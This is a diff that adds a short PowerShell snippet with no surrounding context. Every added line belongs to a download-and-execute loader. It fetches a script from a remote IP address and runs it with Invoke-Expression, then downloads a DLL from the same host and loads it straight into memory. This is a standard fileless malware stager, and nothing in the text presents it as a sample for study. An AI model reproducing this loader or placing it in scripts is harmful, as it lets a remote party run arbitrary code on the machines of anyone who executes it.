@@ -1,0 +1,5 @@
+$request = [System.Net.WebRequest]::Create('http://198.51.100.61/s.ps1')
+$response = $request.GetResponse()
+$reader = New-Object System.IO.StreamReader($response.GetResponseStream())
+Invoke-Expression $reader.ReadToEnd()
+[System.Reflection.Assembly]::Load((Invoke-WebRequest -Uri 'http://198.51.100.61/a.dll' -UseBasicParsing).Content)
